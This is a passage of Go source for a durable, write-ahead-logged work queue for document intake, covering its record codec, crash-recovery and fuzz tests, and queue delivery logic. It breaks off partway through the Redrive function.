	if err != nil {
		t.Fatal(err)
	}
	defer q.Close()
	if _, err := q.EnqueueTraced("doc.docm", nil, []byte("data"), testTraceparent); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	d, err := q.Receive(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if err := d.Fail("boom"); err != nil {
		t.Fatal(err)
	}
	dead := q.DeadLetters()
	if len(dead) != 1 || dead[0].Trace != testTraceparent {
		t.Fatalf("dead letters = %+v", dead)
	}
	if err := q.Redrive(dead[0].ID); err != nil {
		t.Fatal(err)
	}
	d2, err := q.Receive(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if d2.Trace != testTraceparent {
		t.Fatalf("redriven trace = %q", d2.Trace)
	}
}

func TestDecodeEnqueueLegacyPayload(t *testing.T) {
	// A journal written before trace propagation ends at the data field;
	// it must decode with an empty trace.
	legacy := encodeEnqueue(7, 42, "old.docm", []byte("m"), []byte("d"), "")
	id, ns, name, meta, data, trace, err := decodeEnqueue(legacy)
	if err != nil {
		t.Fatalf("legacy decode: %v", err)
	}
	if id != 7 || ns != 42 || name != "old.docm" || string(meta) != "m" || string(data) != "d" || trace != "" {
		t.Fatalf("legacy fields: id=%d ns=%d name=%q meta=%q data=%q trace=%q", id, ns, name, meta, data, trace)
	}
}

func TestDecodeEnqueueRejectsExplicitEmptyTrace(t *testing.T) {
	// A zero-length trace field would re-encode without the field — a
	// non-canonical payload the decoder must reject (FuzzWALDecode relies
	// on decode→re-encode identity).
	p := encodeEnqueue(1, 1, "x", nil, nil, "")
	p = binary.LittleEndian.AppendUint16(p, 0)
	if _, _, _, _, _, _, err := decodeEnqueue(p); !errors.Is(err, errCorrupt) {
		t.Fatalf("explicit empty trace: err = %v, want errCorrupt", err)
	}
}
