//go:build unix

package queue

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"syscall"
	"testing"
	"time"
)

// TestCrashRecoverySIGKILL is the kill-and-restart contract: a helper process
// (this test binary re-exec'd) enqueues jobs with fsync on, receives some
// without acking, acks a known subset, and then SIGKILLs itself — no deferred
// cleanup, no flushing, the same failure mode as a daemon crash. The parent
// reopens the journal and asserts that exactly the un-acked work is
// redelivered with intact payloads.
func TestCrashRecoverySIGKILL(t *testing.T) {
	if os.Getenv("QUEUE_CRASH_HELPER") == "1" {
		crashHelper()
		return // unreachable: crashHelper SIGKILLs the process
	}
	dir := t.TempDir()
	cmd := exec.Command(os.Args[0], "-test.run=TestCrashRecoverySIGKILL")
	cmd.Env = append(os.Environ(), "QUEUE_CRASH_HELPER=1", "QUEUE_CRASH_DIR="+dir)
	out, err := cmd.CombinedOutput()
	ee, ok := err.(*exec.ExitError)
	if !ok || ee.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
		t.Fatalf("helper did not die by SIGKILL: err=%v out=%s", err, out)
	}

	q, err := Open(dir, Options{})
	if err != nil {
		t.Fatalf("reopen after crash: %v", err)
	}
	defer q.Close()

	// Helper enqueued 10 jobs (crash-0..crash-9) and acked ids 2 and 5.
	want := map[string]bool{}
	for i := 0; i < 10; i++ {
		if i != 2 && i != 5 {
			want[fmt.Sprintf("crash-%d", i)] = true
		}
	}
	st := q.Stats()
	if st.Depth != len(want) {
		t.Fatalf("depth after crash = %d, want %d (stats %+v)", st.Depth, len(want), st)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	for len(want) > 0 {
		d, err := q.Receive(ctx)
		if err != nil {
			t.Fatalf("Receive (still want %v): %v", want, err)
		}
		if !want[d.Name] {
			t.Fatalf("unexpected redelivery %q (acked or duplicate)", d.Name)
		}
		if !bytes.Equal(d.Data, crashPayload(d.Name)) {
			t.Fatalf("payload for %q corrupted: %q", d.Name, d.Data)
		}
		delete(want, d.Name)
		if err := d.Ack(); err != nil {
			t.Fatalf("Ack: %v", err)
		}
	}
	if st := q.Stats(); st.Depth != 0 || st.InFlight != 0 {
		t.Fatalf("queue not drained: %+v", st)
	}
}

func crashPayload(name string) []byte {
	return bytes.Repeat([]byte(name+"|"), 32)
}

// crashHelper runs inside the re-exec'd child. fsync is ON (the default):
// every enqueue must already be durable when the SIGKILL lands.
func crashHelper() {
	dir := os.Getenv("QUEUE_CRASH_DIR")
	q, err := Open(dir, Options{})
	if err != nil {
		fmt.Fprintln(os.Stderr, "helper open:", err)
		os.Exit(3)
	}
	ids := make([]uint64, 10)
	for i := range ids {
		name := fmt.Sprintf("crash-%d", i)
		id, err := q.Enqueue(name, nil, crashPayload(name))
		if err != nil {
			fmt.Fprintln(os.Stderr, "helper enqueue:", err)
			os.Exit(3)
		}
		ids[i] = id
	}
	// Receive a prefix of the queue; ack only #2 and #5 so the crash leaves
	// work in every state: never-delivered, delivered-unacked, and acked.
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	for i := 0; i < 7; i++ {
		d, err := q.Receive(ctx)
		if err != nil {
			fmt.Fprintln(os.Stderr, "helper receive:", err)
			os.Exit(3)
		}
		if d.ID == ids[2] || d.ID == ids[5] {
			if err := d.Ack(); err != nil {
				fmt.Fprintln(os.Stderr, "helper ack:", err)
				os.Exit(3)
			}
		}
	}
	// Acks skip fsync by design; force one so the test's expectations are
	// exact rather than "at most these were lost" (at-least-once would
	// tolerate the acks being lost too — they'd just be redelivered).
	q.Sync()
	syscall.Kill(os.Getpid(), syscall.SIGKILL)
}
