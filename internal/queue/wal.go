// WAL record codec and segment replay for the durable work queue.
//
// The journal is a sequence of append-only segment files
// (wal-00000001.seg, wal-00000002.seg, ...). Each segment holds framed
// records:
//
//	magic(1) | type(1) | payloadLen(4 LE) | payload | crc32c(4 LE)
//
// The CRC (Castagnoli) covers magic, type, length and payload, so a torn
// write — the expected failure mode of SIGKILL or power loss mid-append —
// is detected at the exact record where durability ended. Replay truncates
// a torn tail on the final segment (appends resume cleanly after it) and
// skips the remainder of an interior segment whose middle is damaged,
// counting the loss instead of refusing to start.
package queue

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"math"
)

// recMagic opens every WAL record. A reader positioned on anything else is
// looking at corruption (or a torn tail), never at a valid record.
const recMagic = 0xA7

// Record types.
const (
	recEnqueue = byte(1) // a job entered the queue
	recAck     = byte(2) // a job was completed and leaves the queue
	recDead    = byte(3) // a job was dead-lettered (poison)
)

// maxRecordBytes bounds a single record payload. It exists so a corrupt
// length field cannot drive a giant allocation during replay; real payloads
// are request bodies already capped far below this by the HTTP layer.
const maxRecordBytes = 1 << 30

// recHeaderLen is magic + type + payload length.
const recHeaderLen = 6

var crcTable = crc32.MakeTable(crc32.Castagnoli)

// errCorrupt reports a structurally invalid record during replay. It is
// internal: Open converts it into truncation (torn tail) or a skip count.
var errCorrupt = errors.New("queue: corrupt WAL record")

// record is one decoded WAL entry.
type record struct {
	kind    byte
	payload []byte
}

// appendRecord frames kind+payload into buf and returns the extended slice.
func appendRecord(buf []byte, kind byte, payload []byte) []byte {
	if len(payload) > maxRecordBytes {
		panic("queue: record payload exceeds maxRecordBytes")
	}
	start := len(buf)
	buf = append(buf, recMagic, kind)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(payload)))
	buf = append(buf, payload...)
	sum := crc32.Checksum(buf[start:], crcTable)
	return binary.LittleEndian.AppendUint32(buf, sum)
}

// decodeRecord reads one framed record from r. It returns io.EOF at a clean
// record boundary, and errCorrupt (possibly wrapped) for a bad magic, an
// implausible length, a CRC mismatch, or a record cut off mid-frame.
func decodeRecord(r *bufio.Reader) (record, error) {
	var hdr [recHeaderLen]byte
	if _, err := io.ReadFull(r, hdr[:1]); err != nil {
		if err == io.EOF {
			return record{}, io.EOF
		}
		return record{}, fmt.Errorf("%w: %v", errCorrupt, err)
	}
	if hdr[0] != recMagic {
		return record{}, fmt.Errorf("%w: bad magic 0x%02x", errCorrupt, hdr[0])
	}
	if _, err := io.ReadFull(r, hdr[1:]); err != nil {
		return record{}, fmt.Errorf("%w: short header: %v", errCorrupt, err)
	}
	n := binary.LittleEndian.Uint32(hdr[2:])
	if n > maxRecordBytes {
		return record{}, fmt.Errorf("%w: payload length %d exceeds cap", errCorrupt, n)
	}
	body := make([]byte, n+4) // payload + trailing CRC
	if _, err := io.ReadFull(r, body); err != nil {
		return record{}, fmt.Errorf("%w: short payload: %v", errCorrupt, err)
	}
	sum := crc32.Checksum(hdr[:], crcTable)
	sum = crc32.Update(sum, crcTable, body[:n])
	if got := binary.LittleEndian.Uint32(body[n:]); got != sum {
		return record{}, fmt.Errorf("%w: crc mismatch (stored %08x, computed %08x)", errCorrupt, got, sum)
	}
	return record{kind: hdr[1], payload: body[:n:n]}, nil
}

// DecodeRecord decodes one record from the front of data, returning the
// record and the number of bytes consumed. It is the frame decoder behind
// replay, exported for fuzzing: any input must either decode to a record
// that re-encodes byte-identically or fail cleanly.
func DecodeRecord(data []byte) (kind byte, payload []byte, n int, err error) {
	r := bufio.NewReader(&countingReader{data: data})
	rec, err := decodeRecord(r)
	if err != nil {
		return 0, nil, 0, err
	}
	return rec.kind, rec.payload, recHeaderLen + len(rec.payload) + 4, nil
}

// countingReader is a trivial bytes reader (bytes.Reader would also do; this
// keeps the decode path identical to the file replay path).
type countingReader struct {
	data []byte
	off  int
}

func (c *countingReader) Read(p []byte) (int, error) {
	if c.off >= len(c.data) {
		return 0, io.EOF
	}
	n := copy(p, c.data[c.off:])
	c.off += n
	return n, nil
}

// Enqueue payload layout:
//
//	id(8) | enqueuedUnixNano(8) | nameLen(2) | name | metaLen(4) | meta | dataLen(4) | data [| traceLen(2) | trace]
//
// The trailing trace field (the job's W3C traceparent) is optional for
// backward compatibility: journals written before trace propagation end
// at data, and decode with an empty trace. The encoding is canonical —
// an empty trace is always omitted, and an explicit zero-length trace
// field is rejected as corrupt — so decode→re-encode is byte-identical
// for every valid payload (the FuzzWALDecode invariant).

// encodeEnqueue builds the payload for a recEnqueue record.
func encodeEnqueue(id uint64, enqueuedNS int64, name string, meta, data []byte, trace string) []byte {
	buf := make([]byte, 0, 8+8+2+len(name)+4+len(meta)+4+len(data)+2+len(trace))
	buf = binary.LittleEndian.AppendUint64(buf, id)
	buf = binary.LittleEndian.AppendUint64(buf, uint64(enqueuedNS))
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(name)))
	buf = append(buf, name...)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(meta)))
	buf = append(buf, meta...)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(data)))
	buf = append(buf, data...)
	if trace != "" {
		buf = binary.LittleEndian.AppendUint16(buf, uint16(len(trace)))
		buf = append(buf, trace...)
	}
	return buf
}

// decodeEnqueue parses a recEnqueue payload.
func decodeEnqueue(p []byte) (id uint64, enqueuedNS int64, name string, meta, data []byte, trace string, err error) {
	take := func(n int) ([]byte, bool) {
		if len(p) < n {
			return nil, false
		}
		out := p[:n]
		p = p[n:]
		return out, true
	}
	fail := func() (uint64, int64, string, []byte, []byte, string, error) {
		return 0, 0, "", nil, nil, "", errCorrupt
	}
	b, ok := take(16)
	if !ok {
		return fail()
	}
	id = binary.LittleEndian.Uint64(b)
	enqueuedNS = int64(binary.LittleEndian.Uint64(b[8:]))
	b, ok = take(2)
	if !ok {
		return fail()
	}
	nb, ok := take(int(binary.LittleEndian.Uint16(b)))
	if !ok {
		return fail()
	}
	name = string(nb)
	b, ok = take(4)
	if !ok {
		return fail()
	}
	mn := binary.LittleEndian.Uint32(b)
	if mn > math.MaxInt32 {
		return fail()
	}
	meta, ok = take(int(mn))
	if !ok {
		return fail()
	}
	b, ok = take(4)
	if !ok {
		return fail()
	}
	dn := binary.LittleEndian.Uint32(b)
	if dn > math.MaxInt32 {
		return fail()
	}
	data, ok = take(int(dn))
	if !ok {
		return fail()
	}
	if len(p) > 0 {
		// Optional trace field (post-propagation journals). A present but
		// empty trace would re-encode without the field, so reject it to
		// keep the encoding canonical.
		b, ok = take(2)
		if !ok {
			return fail()
		}
		tn := int(binary.LittleEndian.Uint16(b))
		if tn == 0 {
			return fail()
		}
		tb, ok := take(tn)
		if !ok {
			return fail()
		}
		trace = string(tb)
	}
	if len(p) != 0 {
		return 0, 0, "", nil, nil, "", fmt.Errorf("%w: %d trailing payload bytes", errCorrupt, len(p))
	}
	return id, enqueuedNS, name, meta, data, trace, nil
}

// encodeAck builds the payload for a recAck record.
func encodeAck(id uint64) []byte {
	return binary.LittleEndian.AppendUint64(make([]byte, 0, 8), id)
}

// decodeAck parses a recAck payload.
func decodeAck(p []byte) (uint64, error) {
	if len(p) != 8 {
		return 0, errCorrupt
	}
	return binary.LittleEndian.Uint64(p), nil
}

// encodeDead builds the payload for a recDead record.
func encodeDead(id uint64, reason string) []byte {
	buf := make([]byte, 0, 8+2+len(reason))
	buf = binary.LittleEndian.AppendUint64(buf, id)
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(reason)))
	return append(buf, reason...)
}

// decodeDead parses a recDead payload.
func decodeDead(p []byte) (uint64, string, error) {
	if len(p) < 10 {
		return 0, "", errCorrupt
	}
	id := binary.LittleEndian.Uint64(p)
	n := int(binary.LittleEndian.Uint16(p[8:]))
	if len(p) != 10+n {
		return 0, "", errCorrupt
	}
	return id, string(p[10 : 10+n]), nil
}
