package queue

import (
	"bytes"
	"testing"
)

// FuzzWALDecode drives arbitrary bytes through the WAL frame decoder. The
// replay path feeds it whatever a crash left on disk, so the decoder must
// never panic, never over-read, and — when it does accept a record — the
// accepted prefix must re-encode byte-identically (otherwise replay and
// append would disagree about where the next record starts).
func FuzzWALDecode(f *testing.F) {
	f.Add(appendRecord(nil, recEnqueue, encodeEnqueue(1, 123456789, "doc.docm", []byte("meta"), []byte("payload"), "")))
	f.Add(appendRecord(nil, recEnqueue, encodeEnqueue(2, 123456789, "doc.docm", []byte("meta"), []byte("payload"),
		"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01")))
	f.Add(appendRecord(nil, recAck, encodeAck(42)))
	f.Add(appendRecord(nil, recDead, encodeDead(7, "poison document")))
	f.Add(appendRecord(nil, recEnqueue, encodeEnqueue(0, 0, "", nil, nil, "")))
	f.Add([]byte{recMagic})               // bare magic, torn header
	f.Add([]byte{recMagic, recEnqueue})   // torn after type
	f.Add(bytes.Repeat([]byte{0xA7}, 64)) // magic spam
	f.Add([]byte{})

	f.Fuzz(func(t *testing.T, data []byte) {
		kind, payload, n, err := DecodeRecord(data)
		if err != nil {
			return // clean rejection is always acceptable
		}
		if n > len(data) {
			t.Fatalf("decoder claims %d bytes consumed of %d available", n, len(data))
		}
		// Round-trip: the consumed prefix must be exactly the re-encoding.
		re := appendRecord(nil, kind, payload)
		if !bytes.Equal(re, data[:n]) {
			t.Fatalf("re-encode mismatch:\n got %x\nwant %x", re, data[:n])
		}
		// The typed payload decoders must handle anything the frame decoder
		// accepted without panicking; success must round-trip too.
		switch kind {
		case recEnqueue:
			if id, ns, name, meta, pdata, trace, err := decodeEnqueue(payload); err == nil {
				if !bytes.Equal(encodeEnqueue(id, ns, name, meta, pdata, trace), payload) {
					t.Fatal("enqueue payload round-trip mismatch")
				}
			}
		case recAck:
			if id, err := decodeAck(payload); err == nil {
				if !bytes.Equal(encodeAck(id), payload) {
					t.Fatal("ack payload round-trip mismatch")
				}
			}
		case recDead:
			if id, reason, err := decodeDead(payload); err == nil {
				if !bytes.Equal(encodeDead(id, reason), payload) {
					t.Fatal("dead payload round-trip mismatch")
				}
			}
		}
	})
}
