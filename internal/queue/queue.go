// Package queue is a persistent, journal-backed work queue with
// at-least-once delivery — the durability layer under the daemon's async
// document intake. Accepted work survives SIGKILL: every enqueue is
// appended to a CRC-framed write-ahead log (and fsynced before the caller
// is told "accepted"), so a crash between accept and ack replays the job
// on restart instead of losing it.
//
// Delivery semantics:
//
//   - At-least-once. A received job becomes invisible for the visibility
//     timeout; if the consumer neither Acks nor Fails it in time (worker
//     stuck, process killed), the job is redelivered to the next receiver.
//     Consumers must therefore make their effects idempotent — the scan
//     pipeline gets this for free from its content-addressed verdict keys.
//   - Bounded redelivery with exponential backoff. Each redelivery waits
//     twice as long as the previous one; after MaxAttempts deliveries the
//     job is dead-lettered (journaled, listable, redrivable) rather than
//     poisoning workers forever.
//   - FIFO within ready jobs (by enqueue id), with backed-off redeliveries
//     re-entering the ready order at their retry time.
//
// Ack records are appended without fsync: losing an ack to a crash merely
// redelivers a completed job, which idempotent consumers absorb, while
// fsyncing enqueues is what guarantees accepted work is never lost.
package queue

import (
	"container/heap"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"time"
)

// ErrClosed is returned by operations on a closed queue.
var ErrClosed = errors.New("queue: closed")

// ErrNotFound is returned for operations naming a job the queue does not
// hold (never enqueued, already acked, or compacted away).
var ErrNotFound = errors.New("queue: job not found")

// Options tunes a queue. The zero value is production-usable.
type Options struct {
	// SegmentBytes rotates the active journal segment once it exceeds this
	// size. Default 64 MiB.
	SegmentBytes int64
	// NoSync disables the fsync on enqueue. Only for tests and callers that
	// can tolerate losing recently accepted work to a crash.
	NoSync bool
	// VisibilityTimeout is how long a received job stays invisible before
	// it is considered abandoned and redelivered. Default 60s.
	VisibilityTimeout time.Duration
	// MaxAttempts is the delivery budget: a job received this many times
	// without an ack is dead-lettered. Default 5.
	MaxAttempts int
	// RetryBackoff is the wait before the first redelivery of a failed
	// job, doubling per attempt. Default 1s.
	RetryBackoff time.Duration
	// now overrides the clock (tests).
	now func() time.Time
}

func (o Options) withDefaults() Options {
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = 64 << 20
	}
	if o.VisibilityTimeout <= 0 {
		o.VisibilityTimeout = 60 * time.Second
	}
	if o.MaxAttempts <= 0 {
		o.MaxAttempts = 5
	}
	if o.RetryBackoff <= 0 {
		o.RetryBackoff = time.Second
	}
	if o.now == nil {
		o.now = time.Now
	}
	return o
}

// Job is the durable unit of work.
type Job struct {
	// ID is the queue-assigned monotonic identifier (the ticket number).
	ID uint64
	// Name labels the job (the submitted filename, usually).
	Name string
	// Meta is a small opaque blob riding with the job (webhook URL, ...).
	Meta []byte
	// Data is the work payload (the document bytes).
	Data []byte
	// Trace is the job's W3C traceparent, journaled with the job so the
	// worker that finally processes it — possibly after a crash and
	// restart — stitches its spans into the submitter's trace. Empty for
	// jobs enqueued without one.
	Trace string
	// EnqueuedAt is when the job was accepted.
	EnqueuedAt time.Time
}

// DeadJob is a dead-lettered job: delivered MaxAttempts times without an
// ack, or explicitly killed by a consumer.
type DeadJob struct {
	Job
	// Reason is why the job was dead-lettered.
	Reason string
	// DeadAt is when the job was dead-lettered.
	DeadAt time.Time
	// Attempts is how many deliveries were made before giving up.
	Attempts int

	// seg pins the segment holding the enqueue record: the payload must
	// survive restarts until the job is redriven.
	seg *segment
}

// Delivery is one received job. Exactly one of Ack or Fail should be
// called; neither arriving before the visibility timeout redelivers the
// job elsewhere.
type Delivery struct {
	Job
	// Attempt is the 1-based delivery count (>1 means redelivery).
	Attempt int

	q    *Queue
	once sync.Once
}

// Status is a job's lifecycle position.
type Status int

// Job statuses.
const (
	StatusUnknown  Status = iota // not held by the queue (acked or never seen)
	StatusPending                // waiting for a receiver (or backing off)
	StatusInFlight               // delivered, awaiting ack
	StatusDead                   // dead-lettered
)

// String names the status for wire use.
func (s Status) String() string {
	switch s {
	case StatusPending:
		return "pending"
	case StatusInFlight:
		return "inflight"
	case StatusDead:
		return "dead"
	default:
		return "unknown"
	}
}

// Stats is a point-in-time queue summary plus lifetime counters.
type Stats struct {
	// Depth is the number of jobs waiting for a receiver (including jobs
	// in redelivery backoff).
	Depth int
	// InFlight is the number of delivered, un-acked jobs.
	InFlight int
	// Dead is the number of dead-lettered jobs currently held.
	Dead int
	// OldestAge is the age of the oldest waiting job (0 when Depth is 0).
	OldestAge time.Duration
	// Enqueued, Acked, Redelivered and DeadLettered are lifetime counters
	// since this queue handle was opened (replayed history included for
	// Enqueued/Acked so the numbers stay meaningful across restarts).
	Enqueued     int64
	Acked        int64
	Redelivered  int64
	DeadLettered int64
	// CorruptRecords counts journal records skipped during replay because
	// their framing or checksum was damaged.
	CorruptRecords int64
	// Segments is the number of journal segment files on disk.
	Segments int
}

// job is the in-memory state for one queued document.
type job struct {
	id         uint64
	name       string
	meta       []byte
	data       []byte
	trace      string
	enqueuedNS int64
	attempts   int       // deliveries so far
	notBefore  time.Time // redelivery backoff gate (zero = ready now)
	deadline   time.Time // visibility deadline while in flight
	inflight   bool
	seg        *segment // segment holding the enqueue record (stable across compaction)
}

// segment is one journal file and the count of still-live jobs whose
// enqueue records it holds.
type segment struct {
	path  string
	index int
	live  int
}

// Queue is a durable work queue. All methods are safe for concurrent use.
type Queue struct {
	dir string
	opt Options

	mu      sync.Mutex
	jobs    map[uint64]*job // pending + inflight
	ready   jobHeap         // pending, ordered by (notBefore, id)
	dead    map[uint64]*DeadJob
	segs    []*segment
	active  *os.File // append handle for segs[len(segs)-1]
	wsize   int64
	nextID  uint64
	closed  bool
	wake    chan struct{} // closed+replaced on every state change
	counter struct {
		enqueued, acked, redelivered, deadLettered, corrupt int64
	}
}

// Open opens (or creates) the queue journaled under dir, replaying every
// segment to rebuild the pending set: enqueues minus acks minus
// dead-letters are redelivered — the crash-recovery path. A torn record at
// the journal tail (the footprint of a crash mid-append) is truncated so
// appends resume cleanly.
func Open(dir string, opt Options) (*Queue, error) {
	opt = opt.withDefaults()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("queue: %w", err)
	}
	q := &Queue{
		dir:  dir,
		opt:  opt,
		jobs: make(map[uint64]*job),
		dead: make(map[uint64]*DeadJob),
		wake: make(chan struct{}),
	}
	if err := q.replay(); err != nil {
		return nil, err
	}
	if err := q.openActive(); err != nil {
		return nil, err
	}
	heap.Init(&q.ready)
	return q, nil
}

// Dir reports the journal directory.
func (q *Queue) Dir() string { return q.dir }

// Close releases the journal file handle. Pending jobs stay journaled and
// are redelivered by the next Open.
func (q *Queue) Close() error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return nil
	}
	q.closed = true
	q.notifyLocked()
	if q.active != nil {
		return q.active.Close()
	}
	return nil
}

// Sync forces an fsync of the active journal segment. Acks normally ride
// without one; shutdown paths (and tests that need exact post-crash state)
// can use this to pin them down.
func (q *Queue) Sync() error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed || q.active == nil {
		return ErrClosed
	}
	return q.active.Sync()
}

// Healthy probes the journal volume: it must be possible to create and
// remove a file in the queue directory. A read-only or full volume fails
// here before it fails an accept, so readiness checks can take the node
// out of rotation first.
func (q *Queue) Healthy() error {
	probe := filepath.Join(q.dir, ".probe")
	f, err := os.OpenFile(probe, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
	if err != nil {
		return fmt.Errorf("queue: journal volume unwritable: %w", err)
	}
	_, werr := f.Write([]byte("ok"))
	cerr := f.Close()
	rerr := os.Remove(probe)
	for _, err := range []error{werr, cerr, rerr} {
		if err != nil {
			return fmt.Errorf("queue: journal volume unwritable: %w", err)
		}
	}
	return nil
}

// Enqueue accepts one job: the enqueue record is appended and (unless
// NoSync) fsynced before the assigned ID is returned, so an accepted job
// survives any crash after this call.
func (q *Queue) Enqueue(name string, meta, data []byte) (uint64, error) {
	return q.EnqueueTraced(name, meta, data, "")
}

// EnqueueTraced is Enqueue with a W3C traceparent journaled alongside the
// job, so the eventual worker joins the submitter's trace even across a
// crash/restart. An empty trace is identical to Enqueue.
func (q *Queue) EnqueueTraced(name string, meta, data []byte, trace string) (uint64, error) {
	if len(name) > 1<<16-1 {
		name = name[:1<<16-1]
	}
	if len(trace) > 1<<16-1 {
		trace = "" // a traceparent is ~55 bytes; anything huge is garbage
	}
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return 0, ErrClosed
	}
	q.nextID++
	id := q.nextID
	now := q.opt.now()
	payload := encodeEnqueue(id, now.UnixNano(), name, meta, data, trace)
	if err := q.appendLocked(recEnqueue, payload, !q.opt.NoSync); err != nil {
		q.nextID--
		return 0, err
	}
	j := &job{
		id:         id,
		name:       name,
		meta:       append([]byte(nil), meta...),
		data:       append([]byte(nil), data...),
		trace:      trace,
		enqueuedNS: now.UnixNano(),
		seg:        q.segs[len(q.segs)-1],
	}
	j.seg.live++
	q.jobs[id] = j
	heap.Push(&q.ready, j)
	q.counter.enqueued++
	q.notifyLocked()
	return id, nil
}

// Receive blocks until a job is visible (or ctx ends), delivers it, and
// starts its visibility timeout. Abandoned in-flight jobs whose timeout
// has expired are redelivered here, counting one more attempt; jobs out of
// attempts are dead-lettered instead of delivered.
func (q *Queue) Receive(ctx context.Context) (*Delivery, error) {
	for {
		q.mu.Lock()
		if q.closed {
			q.mu.Unlock()
			return nil, ErrClosed
		}
		now := q.opt.now()
		q.sweepLocked(now)
		if j := q.popReadyLocked(now); j != nil {
			j.attempts++
			j.inflight = true
			j.deadline = now.Add(q.opt.VisibilityTimeout)
			if j.attempts > 1 {
				q.counter.redelivered++
			}
			d := &Delivery{
				Job: Job{
					ID:         j.id,
					Name:       j.name,
					Meta:       j.meta,
					Data:       j.data,
					Trace:      j.trace,
					EnqueuedAt: time.Unix(0, j.enqueuedNS),
				},
				Attempt: j.attempts,
				q:       q,
			}
			q.mu.Unlock()
			return d, nil
		}
		wait := q.nextWakeLocked(now)
		wake := q.wake
		q.mu.Unlock()

		var timerC <-chan time.Time
		var timer *time.Timer
		if wait > 0 {
			timer = time.NewTimer(wait)
			timerC = timer.C
		}
		select {
		case <-ctx.Done():
			if timer != nil {
				timer.Stop()
			}
			return nil, ctx.Err()
		case <-wake:
		case <-timerC:
		}
		if timer != nil {
			timer.Stop()
		}
	}
}

// Ack completes the delivery: the ack record is journaled and the job
// leaves the queue. Idempotent — acking a job already acked (by a slow
// twin after redelivery) is a no-op.
func (d *Delivery) Ack() error {
	var err error
	d.once.Do(func() { err = d.q.ack(d.ID) })
	return err
}

// Fail reports that processing failed for a reason worth retrying. The job
// re-enters the ready set after its backoff — or is dead-lettered when its
// delivery budget is spent.
func (d *Delivery) Fail(reason string) error {
	var err error
	d.once.Do(func() { err = d.q.fail(d.ID, reason) })
	return err
}

// Kill dead-letters the delivery immediately, without consuming the
// remaining attempts — for failures the consumer knows are permanent.
func (d *Delivery) Kill(reason string) error {
	var err error
	d.once.Do(func() { err = d.q.kill(d.ID, reason) })
	return err
}

func (q *Queue) ack(id uint64) error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	j, ok := q.jobs[id]
	if !ok || !j.inflight {
		return nil // already resolved elsewhere (redelivery twin)
	}
	// Losing an ack to a crash only costs one redelivery of completed,
	// idempotent work, so acks ride without fsync.
	if err := q.appendLocked(recAck, encodeAck(id), false); err != nil {
		return err
	}
	q.removeLocked(j)
	q.counter.acked++
	q.compactLocked()
	q.notifyLocked()
	return nil
}

func (q *Queue) fail(id uint64, reason string) error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	j, ok := q.jobs[id]
	if !ok || !j.inflight {
		return nil
	}
	now := q.opt.now()
	if j.attempts >= q.opt.MaxAttempts {
		return q.deadLetterLocked(j, reason, now)
	}
	j.inflight = false
	j.deadline = time.Time{}
	j.notBefore = now.Add(q.backoff(j.attempts))
	heap.Push(&q.ready, j)
	q.notifyLocked()
	return nil
}

func (q *Queue) kill(id uint64, reason string) error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	j, ok := q.jobs[id]
	if !ok || !j.inflight {
		return nil
	}
	return q.deadLetterLocked(j, reason, q.opt.now())
}

// backoff is the redelivery delay after the attempts-th delivery failed:
// RetryBackoff doubling per attempt, capped at the visibility timeout so a
// long-lived job cannot back off into effective death.
func (q *Queue) backoff(attempts int) time.Duration {
	d := q.opt.RetryBackoff
	for i := 1; i < attempts && d < q.opt.VisibilityTimeout; i++ {
		d *= 2
	}
	if d > q.opt.VisibilityTimeout {
		d = q.opt.VisibilityTimeout
	}
	return d
}

// deadLetterLocked journals and records the dead-lettering of j.
func (q *Queue) deadLetterLocked(j *job, reason string, now time.Time) error {
	if len(reason) > 1<<16-1 {
		reason = reason[:1<<16-1]
	}
	// Dead-letters are rare and operator-facing; sync them like enqueues.
	if err := q.appendLocked(recDead, encodeDead(j.id, reason), !q.opt.NoSync); err != nil {
		return err
	}
	q.removeLocked(j)
	// The enqueue segment must outlive the dead-letter so the payload
	// survives restarts: keep it counted as live until redrive.
	j.seg.live++
	q.dead[j.id] = &DeadJob{
		Job: Job{
			ID:         j.id,
			Name:       j.name,
			Meta:       j.meta,
			Data:       j.data,
			Trace:      j.trace,
			EnqueuedAt: time.Unix(0, j.enqueuedNS),
		},
		Reason:   reason,
		DeadAt:   now,
		Attempts: j.attempts,
		seg:      j.seg,
	}
	q.counter.deadLettered++
	q.notifyLocked()
	return nil
}

// Redrive moves a dead-lettered job back into the ready set with a fresh
// delivery budget, journaling it as a new enqueue of the same ID (replay
// processes records in order, so enqueue-after-dead resurrects).
func (q *Queue) Redrive(id uint64) error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	dj, ok := q.dead[id]
	if !ok {
		return ErrNotFound
	}
	payload := encodeEnqueue(dj.ID, dj.EnqueuedAt.UnixNano(), dj.Name, dj.Meta, dj.Data, dj.Trace)
	if err := q.appendLocked(recEnqueue, payload, !q.opt.NoSync); err != nil {
		return err
	}
	if dj.seg != nil {
		dj.seg.live-- // release the pin on the original enqueue segment
	}
	delete(q.dead, id)
	j := &job{
		id:         dj.ID,
